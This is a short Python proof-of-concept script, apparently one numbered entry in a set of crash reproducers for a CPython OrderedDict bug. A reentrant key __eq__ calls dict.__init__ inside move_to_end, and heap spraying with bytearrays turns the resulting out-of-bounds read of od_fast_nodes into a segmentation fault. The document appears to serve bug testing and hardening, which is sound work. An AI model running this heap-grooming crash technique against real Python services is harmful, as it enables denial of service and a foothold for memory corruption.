# technique: 492 via dict.__init__(od, m) (not in pyfix dict_defs, so no is_busy check): from a key __eq__ inside od.move_to_end, dict.__init__ inserts 12 keys (incl. the looked-up key) at dict level -> the lookup restarts and finds the key at entry 12 -> od->od_fast_nodes[12] read past the 8-slot array into sprayed bytes -> bogus node unlinked -> SIGSEGV (dict.__ior__(od, m) reaches the same insert path unguarded). Retried because the OOB slot is sometimes NULL (then a benign KeyError).
# expect: any
import collections
class K:
    def __hash__(self):
        return 1
    def __eq__(self, other):
        if st[0]:
            st[0] = 0
            m = {100 + i: 0 for i in range(11)}
            m[self] = 0
            dict.__init__(od, m)      # grows od at dict level while move_to_end holds its lookup
        return False
class J:
    def __hash__(self):
        return 1
    def __eq__(self, other):
        return NotImplemented
drain = [bytearray(b"d" * 56) for _ in range(4000)]
keep = []
for attempt in range(20):
    st = [1]
    od = collections.OrderedDict()
    od[J()] = 1                  # od_fast_nodes: a 64-byte block
    keep.append([bytearray(b"\x41" * 56) for _ in range(100)])   # the blocks after it
    try:
        od.move_to_end(K())
    except KeyError:
        keep.append(od)
print("no crash")
